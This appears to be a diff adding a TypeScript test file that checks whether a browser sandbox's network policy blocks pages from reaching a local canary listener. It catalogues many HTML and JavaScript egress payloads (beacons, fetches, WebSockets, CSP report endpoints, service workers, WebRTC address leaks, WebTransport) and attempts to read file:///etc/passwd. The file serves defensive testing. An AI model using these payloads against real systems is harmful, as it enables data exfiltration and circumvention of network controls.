@@ -1,0 +1,134 @@
+import { expect } from 'vitest';
+import type { Attack, World } from './attack-world.ts';
+
+/**
+ * From a page of an allowed site: everything a page can load, send or open, aimed at a listener of the machine. `HOST` in
+ * a page stands for that listener's address.
+ */
+const waitMs = 250;
+
+async function show(world: World, body: string, header?: string): Promise<{ type: string; url: string }[]> {
+  const host = `127.0.0.1:${world.canaries.tcp}`;
+  const url = world.site.serve(body.replaceAll('HOST', host), { header: header?.replaceAll('HOST', host) });
+  const code = `const tried = context.waitForEvent('response', { predicate: (it) => it.url().includes(args.host) && !it.url().startsWith(args.site), timeout: ${waitMs} }).catch(() => 0);
+    await page.goto(args.url, { waitUntil: 'commit' }).catch(() => 0); await tried; await page.goto('about:blank').catch(() => 0);`;
+  const { activity } = await world.run(code, { args: { url, host } });
+  return activity.filter(
+    (entry: { type: string; url?: string }) => entry.type === 'policy_blocked' && entry.url?.includes(host),
+  );
+}
+
+const script = (code: string): string => `<body><script>${code}</script>`;
+const inWorker = (code: string): string =>
+  script(`new Worker(URL.createObjectURL(new Blob([${JSON.stringify(code)}])))`);
+
+/** Those that Chromium tries at once: the refusal must be seen, or the attempt proves nothing. */
+const tried: Record<string, string> = {
+  'an image': '<img src="http://HOST/">',
+  'a script': '<script src="http://HOST/"></script>',
+  'a module': '<script type="module" src="http://HOST/"></script>',
+  'a style sheet': '<link rel="stylesheet" href="http://HOST/">',
+  'an image in CSS': '<div style="background: url(http://HOST/)">x</div>',
+  'a font': '<style>@font-face { font-family: f; src: url(http://HOST/); } p { font-family: f; }</style><p>x',
+  'a frame': '<iframe src="http://HOST/"></iframe>',
+  'a frame in a frame of its own origin': `<iframe srcdoc="<iframe src='http://HOST/'></iframe>"></iframe>`,
+  'an object': '<object data="http://HOST/"></object>',
+  'an embedded thing': '<embed src="http://HOST/">',
+  'a video': '<video src="http://HOST/" autoplay></video>',
+  'an SVG image': '<svg><image href="http://HOST/" /></svg>',
+  'a prefetch': '<link rel="prefetch" href="http://HOST/">',
+  'a preload': '<link rel="preload" as="fetch" href="http://HOST/">',
+  'a meta refresh': '<meta http-equiv="refresh" content="0;url=http://HOST/">',
+  'a script that goes there': script('location = "http://HOST/"'),
+  'a form that is sent':
+    '<form action="http://HOST/" method="post"><input name="a" value="b"></form><script>document.forms[0].submit()</script>',
+  'a new window': script('open("http://HOST/")'),
+  'a fetch': script('fetch("http://HOST/", { mode: "no-cors", keepalive: true })'),
+  'a fetch in a worker': inWorker('fetch("http://HOST/", { mode: "no-cors" })'),
+  'an import in a worker': inWorker('importScripts("http://HOST/")'),
+  'an XMLHttpRequest': script('const x = new XMLHttpRequest(); x.open("POST", "http://HOST/"); x.send("x")'),
+  'a WebSocket': script('new WebSocket("ws://HOST/")'),
+  'a WebSocket over TLS': script('new WebSocket("wss://HOST/")'),
+  'an event source': script('new EventSource("http://HOST/")'),
+  'a beacon': script('navigator.sendBeacon("http://HOST/", "x")'),
+  'a link with a ping': '<a id="a" href="#x" ping="http://HOST/">x</a><script>a.click()</script>',
+};
+
+/** Those that Chromium may not even try. */
+const perhapsTried: Record<string, string> = {
+  'a preconnect over TLS': '<link rel="preconnect" href="https://HOST/">',
+  'a name looked up ahead': '<link rel="dns-prefetch" href="//attack.localhost">',
+  'a speculation rule':
+    '<script type="speculationrules">{"prefetch":[{"urls":["http://HOST/"],"eagerness":"immediate"}],"prerender":[{"urls":["http://HOST/"],"eagerness":"immediate"}]}</script>',
+  'an icon and a manifest': '<link rel="icon" href="http://HOST/"><link rel="manifest" href="http://HOST/">',
+  'a file of the machine':
+    '<iframe src="file:///etc/passwd"></iframe><img src="file:///etc/passwd"><script>open("file:///etc/passwd"); location = "file:///etc/passwd"; fetch("file:///etc/passwd")</script>',
+  'FTP and other schemes':
+    '<iframe src="ftp://HOST/"></iframe><iframe src="gopher://HOST/"></iframe><img src="ws://HOST/"><iframe src="chrome://version"></iframe>',
+};
+
+const loads = (list: Record<string, string>, mustTry: boolean): Attack[] =>
+  Object.entries(list).map(([what, body]) => ({
+    name: `reaches a closed host by ${what}`,
+    async attempt(world) {
+      const refused = await show(world, body);
+      if (mustTry) expect(refused.length).toBeGreaterThan(0);
+    },
+  }));
+
+export const pageAttacks: Attack[] = [
+  ...loads(tried, true),
+  ...loads(perhapsTried, false),
+  {
+    name: 'reports a violation to a closed host, by CSP and by the reporting API',
+    async attempt(world) {
+      await show(
+        world,
+        '<img src="/blocked">',
+        "content-security-policy: img-src 'none'; report-uri http://HOST/csp",
+      );
+      await show(world, '<img src="/x">', 'reporting-endpoints: default="https://HOST/report"');
+      await show(world, '<img src="/x">', 'link: <http://HOST/>; rel=preload; as=image');
+      await show(world, '<p>x', 'refresh: 0; url=http://HOST/');
+    },
+  },
+  {
+    name: 'reaches a closed host from a service worker',
+    async attempt(world) {
+      const to = `http://127.0.0.1:${world.canaries.tcp}/`;
+      const worker = world.site.serve(
+        `fetch('${to}', { mode: 'no-cors' }).catch(() => 0); self.onfetch = (event) => event.respondWith(fetch('${to}', { mode: 'no-cors' }))`,
+        { type: 'text/javascript' },
+      );
+      const code = `await page.goto(args.site); await page.evaluate(async (url) => { await navigator.serviceWorker.register(url, { scope: '/' }); await navigator.serviceWorker.ready; }, args.worker);
+        await page.goto(args.site + '/through').catch(() => 0); await sleep(${waitMs});
+        await page.context().newCDPSession(page).then((s) => s.send('Storage.clearDataForOrigin', { origin: args.site, storageTypes: 'service_workers' }));`;
+      const { activity } = await world.run(code, { args: { worker } });
+      expect(activity.some((entry: { type: string }) => entry.type === 'policy_blocked')).toBe(true);
+    },
+  },
+  {
+    name: 'finds out an address of the machine, or reaches it, by WebRTC',
+    async attempt(world) {
+      const code = `await page.goto(args.site);
+        return page.evaluate(async ({ tcp, udp }) => {
+          const peer = new RTCPeerConnection({ iceServers: [{ urls: ['stun:127.0.0.1:' + udp] }, { urls: ['turn:127.0.0.1:' + udp, 'turn:127.0.0.1:' + tcp + '?transport=tcp', 'turns:127.0.0.1:' + tcp + '?transport=tcp'], username: 'a', credential: 'b' }] });
+          const found = [];
+          peer.onicecandidate = ({ candidate }) => candidate?.candidate && found.push(candidate.candidate);
+          peer.createDataChannel('x');
+          await peer.setLocalDescription(await peer.createOffer());
+          await new Promise((resolve) => setTimeout(resolve, 1000));
+          return [...found, ...peer.localDescription.sdp.split('\\n').filter((line) => /^a=candidate/.test(line))];
+        }, args.canary);`;
+      expect(await world.run(code)).toMatchObject({ success: true, result: [] });
+    },
+  },
+  {
+    name: 'leaves by WebTransport, which would be UDP',
+    async attempt(world) {
+      const code = `await page.goto(args.site);
+        return page.evaluate(async ({ udp }) => { try { const t = new WebTransport('https://127.0.0.1:' + udp + '/'); await Promise.race([t.ready, new Promise((_, no) => setTimeout(no, 800))]); return 'open'; } catch (error) { return 'refused'; } }, args.canary);`;
+      expect(await world.run(code)).toMatchObject({ result: 'refused' });
+    },
+  },
+];
